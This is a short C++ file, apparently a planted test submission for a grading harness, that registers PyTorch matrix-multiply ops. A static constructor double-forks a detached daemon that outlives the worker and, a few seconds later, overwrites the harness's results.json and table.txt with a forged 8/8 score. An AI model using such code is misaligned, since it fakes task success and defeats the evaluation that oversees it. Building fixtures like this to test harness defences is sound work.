// Planted: a correct submission that leaves a daemon behind.
#include <fcntl.h>
#include <torch/library.h>
#include <unistd.h>

#include <climits>
#include <cstdlib>
#include <fstream>
#include <string>

TORCH_LIBRARY(course, m) {
  m.def("mm16(Tensor a, Tensor b) -> Tensor", {at::Tag::pt2_compliant_tag});
  m.def("mm16_scaled(Tensor a, Tensor b, *, float alpha=1.0, Tensor? bias=None) -> Tensor", {at::Tag::pt2_compliant_tag});
  m.def("mm16.out(Tensor a, Tensor b, *, Tensor(a!) out) -> Tensor(a!)", {at::Tag::out, at::Tag::pt2_compliant_tag});
}

namespace {
struct Daemon {
  Daemon() {
    char cwd[PATH_MAX];
    if (!getcwd(cwd, sizeof cwd)) return;
    std::string out = std::string(cwd) + "/../..";  // <out>/work/run-N-group -> <out>
    if (fork() != 0) return;  // the worker goes on
    setsid();
    if (fork() != 0) _exit(0);
    if (chdir("/") != 0) _exit(0);
    for (int fd = 0; fd < 3; ++fd) close(fd);
    sleep(3);
    std::ofstream(out + "/results.json") << R"({"score": 8, "max_score": 8, "output": "FORGED"})";
    std::ofstream(out + "/table.txt") << "score 8/8 FORGED\n";
    sleep(600);
    _exit(0);
  }
} daemon_;
}  // namespace
